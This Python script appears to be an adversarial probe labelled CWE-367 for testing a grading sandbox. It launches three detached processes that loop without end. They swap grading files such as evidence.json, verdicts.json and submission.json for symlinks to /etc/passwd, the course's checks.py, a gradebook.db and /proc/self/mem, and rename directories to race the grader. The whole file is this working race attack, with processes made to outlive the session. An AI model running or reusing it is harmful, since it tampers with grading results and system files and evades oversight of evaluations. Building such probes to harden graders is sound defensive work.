"""Renames, links and replaces files in its folders, without end, while and after results are collected."""

SOURCE = "CWE-367"
SUCCESS = "a file among the results that is not ours, or a changed file"

# %%
import os
import subprocess
import sys

LOOP = (
    "import os, itertools\n"
    "names = ['evidence.json', 'evidence.npz', 'executed.ipynb', 'verdicts.json', 'log.txt', 'submission.json']\n"
    "targets = ['/etc/passwd', '@COURSE@/reference/target/checks.py', '@OUT@/forging/gradebook.db', '/proc/self/mem']\n"
    "for number in itertools.count():\n"
    "    for folder in ('/home/student', '/tmp', '/dev/shm', '@OUT@/forging/target/@NAME@'):\n"
    "        name = f'{folder}/{names[number % 6]}'\n"
    "        try:\n"
    "            os.symlink(targets[number % 4], name + '.partial')\n"
    "            os.replace(name + '.partial', name)\n"
    "            os.mkdir(f'{folder}/d')\n"
    "            os.rename(f'{folder}/d', f'{folder}/target')\n"
    "        except OSError: pass\n"
)
loops = [subprocess.Popen([sys.executable, "-c", LOOP, "@TOKEN@"], start_new_session=True) for _ in range(3)]
__import__("time").sleep(0.3)
print(os.listdir("/home/student"), [loop.poll() for loop in loops], "attempted")
